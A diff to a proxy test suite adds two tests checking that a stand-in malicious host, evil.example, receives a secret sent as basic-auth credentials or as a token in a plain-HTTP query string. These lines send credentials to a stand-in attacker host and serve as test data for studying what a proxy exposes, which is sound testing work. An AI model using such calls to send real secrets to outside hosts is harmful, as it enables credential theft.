@@ -211,6 +211,24 @@ def test_the_evil_host_keeps_every_byte(proxy: ConnectProxy, http: httpx.Client)
     assert not evil.got("another")
 
 
+def test_the_evil_host_sees_into_basic_credentials(proxy: ConnectProxy, http: httpx.Client) -> None:
+    evil = EvilHost()
+    evil.attach(proxy)
+
+    http.get("https://evil.example/", auth=("x", "s3cret"))
+
+    assert evil.got("s3cret")
+
+
+def test_the_evil_host_sees_plain_requests(proxy: ConnectProxy) -> None:
+    evil = EvilHost()
+    evil.attach(proxy)
+
+    httpx.get("http://evil.example/?token=s3cret", proxy=proxy.url, trust_env=False)
+
+    assert evil.got("s3cret")
+
+
 def test_what_nobody_else_has_goes_to_the_evil_host(greeting: ConnectProxy, http: httpx.Client) -> None:
     evil = EvilHost()
     evil.attach(greeting)
